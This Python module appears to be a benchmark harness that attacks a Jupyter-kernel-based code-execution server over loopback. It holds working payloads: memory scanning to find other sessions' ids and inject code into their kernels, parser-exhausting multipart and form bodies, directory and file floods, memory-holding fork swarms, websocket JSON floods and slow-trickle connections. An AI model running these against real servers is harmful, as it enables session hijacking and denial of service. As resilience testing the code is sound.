"""``python -m benchmarks.attackers NAME URL SECONDS STATE``: runs one attack on a server.

The attacks are bounded in time and in number, and use only the loopback interface. Whatever
the server answers, the attacker continues; at the end it prints what it gained as a line of JSON.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import websocket
from attrs import define, field

from benchmarks.client import Unexpected, WebSocketTalk, ask, call, execute_request, fetch

#: The attacker's address, as a trusted proxy sends it.
HEADERS = {"X-Forwarded-For": "203.0.113.7"}

#: The address of attackers who use no proxy.
ELSEWHERE = "127.0.0.2"

_FORM = "application/x-www-form-urlencoded"

#: Prints everything in its own memory that looks like a session's id.
SEARCH = r"""
import re
own, found = open("/proc/self/mem", "rb", 0), set()
for line in open("/proc/self/maps"):
    fields = line.split()
    if "r" not in fields[1] or "[v" in line:
        continue
    start, end = (int(text, 16) for text in fields[0].split("-"))
    try:
        own.seek(start)
        text = own.read(end - start)
    except (OSError, OverflowError, ValueError):
        continue
    ids = re.findall(rb"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", text)
    found.update(id.decode() for id in ids)
print(*found)
"""

#: Makes directories nested deeper than the longest path, wherever that is possible.
DEEP = r"""
import os
from contextlib import suppress
places = [os.getcwd()]
for line in open("/proc/self/mountinfo"):
    places.append(line.split()[4])
for place in places:
    with suppress(OSError):
        os.chdir(place)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
os._exit(0)
"""

#: Makes as many files as it can in its own directory.
MANY = r"""
import os
for number in range(30000):
    open(f"{number}", "w").close()
os._exit(0)
"""

#: Many sleeping processes with much memory, which they all share.
SLEEPERS = r"""
import os, time
hoard = bytearray(b"x") * (700 << 20)
for _ in range(88):
    if os.fork() == 0:
        time.sleep(3600)
time.sleep(3600)
"""

#: Displays JSON that takes long to parse.
CONTAINERS = r"""
import json
from IPython.display import display
for _ in range(20):
    display({"application/json": [[] for _ in range(1_380_000)]}, raw=True)
"""


@define
class Attack:
    """An attack under way. `state` is the directory of the server's state."""

    url: str
    state: Path
    deadline: float
    stolen: int = field(default=0, init=False)

    @property
    def is_over(self) -> bool:
        return time.monotonic() > self.deadline

    def at_once(self, count: int, play: Callable[[], object]) -> None:
        """Call `play` repeatedly in `count` threads, until the time is over."""

        def again() -> None:
            while not self.is_over:
                try:
                    play()
                except (Unexpected, OSError, ValueError, websocket.WebSocketException):
                    time.sleep(0.05)  # refused or disconnected

        threads = [threading.Thread(target=again, daemon=True) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0.0, self.deadline + 5 - time.monotonic()))

    def open(self) -> WebSocketTalk:
        """A new kernel, which belongs to the attacker."""
        kernel = call("POST", f"{self.url}/kernel?timeout=inf", HEADERS)
        return WebSocketTalk(
            f"{kernel['ws_url']}kernel/{kernel['id']}/channels",
            end=lambda: call("DELETE", f"{self.url}/kernel/{kernel['id']}", HEADERS),
            headers=HEADERS,
        )

    def run(self, program: str) -> str:
        """Run a program in a new kernel of the attacker; returns what it printed."""
        talk = self.open()
        try:
            return "".join(
                message["content"]["text"]
                for message in ask(talk, program)
                if message["header"]["msg_type"] == "stream"
            )
        finally:
            talk.close()

    def service(self, program: str) -> str:
        """Run a program by /service; returns what it printed."""
        body = urlencode({"code": program}).encode("ascii")
        headers = {**HEADERS, "Content-Type": _FORM}
        return str(call("POST", f"{self.url}/service", headers, body).get("stdout", ""))


def take_over(attack: Attack) -> None:
    """1: search a kernel's memory for the ids of other kernels, and run a program in each."""

    def play() -> None:
        for ident in {*attack.service(SEARCH).split(), *attack.run(SEARCH).split()}:
            with suppress(Unexpected, OSError):
                header = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request"}
                message = {"header": header, "content": {"code": "stolen = True"}}
                sent = {**HEADERS, "Content-Type": "application/json"}
                body = json.dumps(message).encode("ascii")
                call("POST", f"{attack.url}/kernel/{ident}/messages", sent, body)
                attack.stolen += 1

    attack.at_once(2, play)


def bodies() -> Iterator[tuple[str, bytes]]:
    """Content types and bodies that are expensive for a naive parser."""
    multipart = "multipart/form-data; boundary=B"
    disposition = b"--B\r\nContent-Disposition: form-data; %s\r\n\r\nx\r\n--B--\r\n"
    yield multipart, disposition % (b';a="' * 200_000)
    yield multipart, disposition % (b';a="' * 900_000)
    nested = b"".join(
        b"--B%d\r\nContent-Type: multipart/mixed; boundary=B%d\r\n\r\n" % (n, n + 1)
        for n in range(200)
    )
    yield "multipart/form-data; boundary=B0", nested + b"--\n" * 300_000
    yield multipart, b"--B\r\nContent-Type: message/rfc822\r\n\r\n" * 5_000
    yield multipart, b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 80_000
    yield _FORM, b"&" * 4_000_000
    yield _FORM, b"a=&" * 1_390_000


def send_bodies(attack: Attack) -> None:
    """2: forms that are expensive to parse, to each route that takes one."""
    worst = list(bodies())
    paths = ["/service", "/permalink", "/kernel", "/complete", "/tos.html"]
    turns = iter(range(10**9))

    def play() -> None:
        turn = next(turns)
        kind, body = worst[turn % len(worst)]
        path = paths[turn // len(worst) % len(paths)]
        fetch("POST", attack.url + path, {**HEADERS, "Content-Type": kind}, body)

    attack.at_once(4, play)


def make_trees(attack: Attack) -> None:
    """3: directories that are expensive or impossible to remove."""
    programs = iter([DEEP, *[MANY] * 14] * 10**6)
    attack.at_once(8, lambda: attack.run(next(programs)))


def start_another(attack: Attack) -> None:
    """5: a second server on the same state, as a mistaken operator might start it."""
    command = [str(Path(sys.executable).with_name("twistd")), "--nodaemon", "--pidfile="]
    options = ["--state-dir", str(attack.state), "--listen", "tcp:0:interface=127.0.0.1"]
    while not attack.is_over:
        subprocess.run(
            [*command, "sagecell-tx", *options],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=60,
            check=False,
        )


def fork_sleepers(attack: Attack) -> None:
    """8: many sleeping processes with much memory, which the server measures again and again."""
    attack.at_once(2, lambda: attack.run(SLEEPERS))


def send_containers(attack: Attack) -> None:
    """11: JSON of many containers, from clients and from a program."""
    text = json.dumps(
        {
            "header": {"msg_id": "m", "msg_type": "execute_request", "session": "s"},
            "channel": "shell",
            "parent_header": {},
            "metadata": {},
            "content": {**execute_request("1"), "user_expressions": [[]] * 950_000},
        }
    )

    def flood() -> None:
        kernel = call("POST", f"{attack.url}/kernel?timeout=inf", HEADERS)
        connection = websocket.create_connection(
            f"{kernel['ws_url']}kernel/{kernel['id']}/channels", timeout=10, header=HEADERS
        )
        try:
            while not attack.is_over:
                connection.send(text)
        finally:
            connection.close(timeout=1)

    threading.Thread(target=attack.run, args=(CONTAINERS,), daemon=True).start()
    attack.at_once(5, flood)


def trickle(attack: Attack) -> None:
    """12: connections that send a byte every ten seconds, and reconnect when they are closed."""
    address = urlsplit(attack.url)
    connections: list[socket.socket] = []
    sent = 0.0
    while not attack.is_over:
        while len(connections) < 1200 and not attack.is_over:
            with suppress(OSError):
                connections.append(
                    socket.create_connection(
                        (address.hostname or "", address.port or 0),
                        timeout=1,
                        source_address=(ELSEWHERE, 0),
                    )
                )
        if time.monotonic() - sent > 10:
            sent = time.monotonic()
            connections = [each for each in connections if _said(each)]
        time.sleep(0.1)


def _said(connection: socket.socket) -> bool:
    """Send one byte; returns whether the connection is still open."""
    try:
        connection.send(b"G")
        connection.setblocking(False)
        return connection.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False


ATTACKS: Mapping[str, Callable[[Attack], None]] = {
    "1": take_over,
    "2": send_bodies,
    "3": make_trees,
    "5": start_another,
    "8": fork_sleepers,
    "11": send_containers,
    "12": trickle,
}


def main(arguments: Sequence[str]) -> int:
    """Attack, and print what was gained."""
    name, url, seconds, state = arguments
    attack = Attack(url, Path(state), time.monotonic() + float(seconds))
    ATTACKS[name](attack)
    print(json.dumps({"stolen": attack.stolen}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
